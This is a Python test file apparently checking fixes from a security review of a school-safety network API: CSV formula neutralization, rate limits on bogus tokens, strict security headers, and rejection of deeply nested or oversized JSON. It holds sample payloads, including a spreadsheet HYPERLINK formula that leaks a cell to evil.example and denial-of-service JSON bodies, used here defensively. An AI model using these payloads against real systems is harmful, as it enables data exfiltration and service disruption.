"""Defects a black-box security review found: formula injection in CSV exports, rate limits that
random bearer strings escaped, pages without security headers, and 500s on hostile JSON."""

from __future__ import annotations

import csv
import io
import re
import secrets

import pytest

from cbs_network import create_app
from cbs_network.core.db import utcnow
from cbs_network.http.csv_export import csv_response
from cbs_network.organizations.models import Organization

from . import factories
from .conftest import make_settings
from .helpers import assert_problem, bearer, counted_get
from .test_school_safety_views import YEAR, make_school

# --- CSV exports -------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv", response.get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


def test_csv_export_neutralizes_cells_a_spreadsheet_would_run_as_formulas(client, db_session, network):
    for name in [*FORMULAS, "Lincoln High"]:
        make_school(db_session, name, region="South")
    response = client.get(
        "/api/v1/school-safety/committee-gaps",
        headers=network["district_viewer"].headers,
        query_string={"school_year": YEAR, "format": "csv"},
    )
    names = {row["school_name"] for row in _csv_rows(response)}
    assert {"'" + formula for formula in FORMULAS} | {"Lincoln High"} <= names
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)


def test_csv_cells_keep_numbers_as_numbers_and_quoting_correct(ctx):
    response = csv_response(
        ["text", "number", "negative", "list"],
        [{"text": '=1+2,"quoted"', "number": 3, "negative": -5, "list": ["-a", "b"]}],
        "t.csv",
    )
    body = response.get_data(as_text=True)
    assert body.splitlines()[1] == '"\'=1+2,""quoted""",3,-5,\'-a b'
    assert _csv_rows(response) == [{"text": '\'=1+2,"quoted"', "number": "3", "negative": "-5", "list": "'-a b"}]


# --- rate limits -------------------------------------------------------------------------------


@pytest.fixture
def limited(make_database_url):
    """An app limited to 3 requests a minute per key, on its own database, with a network."""
    app = create_app(make_settings(make_database_url(), ratelimit_default="3 per minute"), TESTING=True)
    database = app.extensions["cbs_db"]
    session = database.session_factory()
    factories.bind(session)
    network = factories.Network.build()
    yield app, network, session
    session.close()
    database.engine.dispose()


def _statuses(app, header_list, address="10.0.0.1") -> list[int]:
    with app.test_client() as test_client:
        return [
            test_client.get("/api/v1/organizations", headers=headers, environ_overrides={"REMOTE_ADDR": address}).status_code
            for headers in header_list
        ]


def test_made_up_bearer_strings_count_against_the_address(limited):
    app, _network, _session = limited
    made_up = [bearer(secrets.token_urlsafe(32)) for _ in range(4)]
    assert _statuses(app, made_up) == [401, 401, 401, 429]
    assert _statuses(app, [bearer("another")], address="10.0.0.2") == [401]


def test_expired_and_revoked_tokens_count_against_the_address(limited):
    app, network, session = limited
    actor = network["cbo_admin"]
    expired = factories.issue_token(session, client=actor.client, user=actor.user, expires_in=-60)
    revoked = factories.issue_token(session, client=actor.client, user=actor.user)
    from cbs_network.oauth.models import OAuthToken, token_hash

    session.query(OAuthToken).filter_by(access_token_hash=token_hash(revoked)).update({"access_revoked_at": utcnow()})
    session.commit()
    headers = [bearer(expired), bearer(revoked), {}, bearer("made-up")]
    assert _statuses(app, headers) == [401, 401, 401, 429]
    # The valid token of the same client is counted apart from the address.
    assert _statuses(app, [actor.headers]) == [200]


def test_tokens_of_one_client_share_its_budget(limited):
    app, network, session = limited
    client = factories.OAuthClientFactory(organization=network.city)
    first, second = (factories.issue_token(session, client=client) for _ in range(2))
    headers = [bearer(first), bearer(second), bearer(first), bearer(second)]
    assert _statuses(app, headers, address="10.0.0.3") == [200, 200, 200, 429]
    # Another address changes nothing for the client; another client has its own budget.
    assert _statuses(app, [bearer(factories.issue_token(session, client=client))], address="10.0.0.4") == [429]
    assert _statuses(app, [network["city_admin"].headers], address="10.0.0.3") == [200]


def test_the_limiter_and_authentication_share_one_token_lookup(limited):
    app, network, _session = limited
    unlimited = create_app(app.config["CBS_SETTINGS"], TESTING=True, RATELIMIT_ENABLED=False)
    headers = network["district_admin"].headers
    with app.test_client() as limited_client, unlimited.test_client() as unlimited_client:
        with_limiter, response = counted_get(app, limited_client, "/api/v1/organizations", headers)
        assert response.status_code == 200 and response.headers["X-RateLimit-Limit"] == "3"
        without_limiter, response = counted_get(unlimited, unlimited_client, "/api/v1/organizations", headers)
        assert response.status_code == 200
    assert with_limiter == without_limiter
    unlimited.extensions["cbs_db"].engine.dispose()


# --- security headers ------------------------------------------------------------------------


def _assert_page_headers(response) -> str:
    assert response.status_code == 200 and response.mimetype == "text/html", response.status_code
    csp = response.headers["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in csp and "base-uri 'none'" in csp and "default-src 'none'" in csp
    assert "unsafe-eval" not in csp and not re.search(r"https?:", csp), csp  # no CDN either
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "no-referrer"
    return csp


def _directive(csp: str, name: str) -> str:
    return next(part.strip() for part in csp.split(";") if part.strip().startswith(name + " "))


def _nonce(csp: str, directive: str) -> str:
    return re.match(rf"{directive} 'self' 'nonce-([\w-]+)'", _directive(csp, directive)).group(1)


def _inline_scripts(html: str) -> list[str]:
    return re.findall(r"<script(?![^>]*\bsrc=)([^>]*)>", html)


@pytest.mark.parametrize("url", ["/", "/problems", "/problems/bad-request"])
def test_documentation_pages_send_a_strict_policy(client, url):
    csp = _assert_page_headers(client.get(url))
    assert _directive(csp, "style-src") == "style-src 'self'" and "script-src" not in csp


def test_swagger_ui_runs_only_its_bundle_and_its_nonced_configuration(client):
    pages = [client.get("/docs/", base_url="http://hub.test") for _ in range(2)]  # the public address
    nonces = []
    for response in pages:
        csp = _assert_page_headers(response)
        assert response.headers["Cache-Control"] == "no-store"  # the explorer holds tokens
        nonce = _nonce(csp, "script-src")
        assert "unsafe-inline" not in csp and _directive(csp, "connect-src") == "connect-src 'self'"
        html = response.get_data(as_text=True)
        assert _inline_scripts(html) == [f' nonce="{nonce}"']  # the one inline script carries it
        assert "initOAuth" in html
        nonces.append(nonce)
    assert nonces[0] != nonces[1]


def test_the_explorers_oauth_redirect_page_is_not_cached_or_framed(client):
    response = client.get("/docs/oauth2-redirect.html?code=abc&state=xyz")
    csp = _assert_page_headers(response)
    assert _directive(csp, "script-src") == "script-src 'self'"
    assert response.headers["Cache-Control"] == "no-store"


def test_redoc_runs_only_its_bundle_and_its_nonced_initialization(client):
    response = client.get("/redoc")
    csp = _assert_page_headers(response)
    nonce = _nonce(csp, "script-src")
    assert _nonce(csp, "style-src") == nonce and "unsafe-inline" not in csp
    assert _inline_scripts(response.get_data(as_text=True)) == [f' nonce="{nonce}"']
    assert _directive(csp, "img-src") == "img-src 'self' data:"  # no logo from cdn.redoc.ly


def test_sign_in_pages_keep_their_strict_policy(client):
    response = client.get("/oauth/login")
    csp = _assert_page_headers(response)
    assert "script-src" not in csp and _directive(csp, "style-src") == "style-src 'unsafe-inline'"
    assert response.headers["Cache-Control"] == "no-store"


def test_every_response_is_nosniff_and_private_json_is_not_stored(client, network):
    for url in ("/api/openapi.json", "/docs/swagger-ui-bundle.js", "/healthz", "/nowhere"):
        assert client.get(url).headers["X-Content-Type-Options"] == "nosniff", url
    assert "no-store" not in client.get("/api/openapi.json").headers.get("Cache-Control", "")

    response = client.get("/api/v1/organizations", headers=network["network_admin"].headers)
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert client.get("/api/v1/organizations", headers=bearer("made-up")).headers["Cache-Control"] == "no-store"

    actor = network["cbo_admin"]
    token = client.post(
        "/oauth/token",
        data={"grant_type": "client_credentials", "scope": "organizations:read"},
        auth=(actor.client.client_id, "secret"),
    )
    assert token.status_code == 200 and token.headers["Cache-Control"] == "no-store"
    introspection = client.post(
        "/oauth/introspect", data={"token": token.json["access_token"]}, auth=(actor.client.client_id, "secret")
    )
    assert introspection.headers["Cache-Control"] == "no-store"
    # A view's own cache policy stands.
    assert client.get("/.well-known/oauth-authorization-server").headers["Cache-Control"] == "public, max-age=3600"


# --- hostile JSON ------------------------------------------------------------------------------

DEEP = 5000
HOSTILE_BODIES = {
    "deep arrays": "[" * DEEP + "]" * DEEP,
    "deep objects": '{"a":' * DEEP + "1" + "}" * DEEP,
    "deep inside a field": '{"kind": "cbo", "name": "x", "contacts": ' + "[" * 300 + "]" * 300 + "}",
    "integer of 5000 digits": '{"name": "x", "kind": "cbo", "something": ' + "9" * 5000 + "}",
    "integer past 64 bits": '{"name": "x", "kind": "cbo", "identifiers": [{"scheme": "ein", "value": 9223372036854775808}]}',
    "negative integer past 64 bits": '{"name": "x", "kind": "cbo", "something": -9223372036854775809}',
    "overflowing exponent": '{"name": "x", "kind": "cbo", "something": 1e999}',
    "NaN": '{"name": "x", "kind": "cbo", "something": NaN}',
}


@pytest.mark.parametrize("body", HOSTILE_BODIES.values(), ids=HOSTILE_BODIES.keys())
def test_hostile_json_is_a_400_that_changes_nothing(client, db_session, network, body):
    before = db_session.query(Organization).count()
    response = client.post(
        "/api/v1/organizations", data=body, content_type="application/json", headers=network["network_admin"].headers
    )
    detail = assert_problem(response, 400)["detail"]
    assert re.search(r"levels deep|64-bit|finite", detail), detail
    assert db_session.query(Organization).count() == before


def test_hostile_json_is_refused_on_every_write_method(client, network):
    organization = network.cbo
    url = f"/api/v1/organizations/{organization.id}"
    headers = {**network["network_admin"].headers, "If-Match": '"1"'}
    for method in ("PATCH", "DELETE"):
        response = client.open(
            url, method=method, data=HOSTILE_BODIES["deep objects"], content_type="application/json", headers=headers
        )
        assert_problem(response, 400)


def test_bodies_within_the_limits_reach_validation(client, network):
    headers = network["network_admin"].headers
    nested = '{"kind": "cbo", "name": "x", "something": ' + "[" * 31 + "]" * 31 + "}"
    edges = '{"kind": "cbo", "name": "x", "low": -9223372036854775808, "high": 9223372036854775807, "f": 1e308}'
    for body in (nested, edges):
        response = client.post("/api/v1/organizations", data=body, content_type="application/json", headers=headers)
        assert assert_problem(response, 422)["errors"]["json"]["something" if body is nested else "low"]


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/schools?board_district=99999999999999999999999",
        "/api/v1/schools?board_district=" + "9" * 5000,
        "/api/v1/school-safety/committee-gaps?school_year=2026-27&board_district=99999999999999999999999",
        "/api/v1/programs?age=99999999999999999999999",
        "/api/v1/organizations?limit=99999999999999999999999",
        "/api/v1/organizations?limit=-99999999999999999999999",
    ],
)
def test_huge_integer_query_arguments_are_validation_errors(client, network, url):
    assert_problem(client.get(url, headers=network["network_admin"].headers), 422)


def test_the_token_lookup_is_memoized_per_request_only(app, db_session, network):
    from sqlalchemy import event

    from cbs_network.http.security import lookup_token

    token = network["cbo_admin"].token
    statements: list[str] = []
    engine = app.extensions["cbs_db"].engine
    record = lambda _conn, _cursor, statement, *_args: statements.append(statement)  # noqa: E731
    event.listen(engine, "before_cursor_execute", record)
    try:
        with app.app_context():  # one g shared by the two requests below, as in some tests and CLI code
            for _ in range(2):
                with app.test_request_context(headers=bearer(token)):
                    assert lookup_token(token) is lookup_token(token)
    finally:
        event.remove(engine, "before_cursor_execute", record)
    assert len([s for s in statements if "oauth_tokens" in s]) == 2
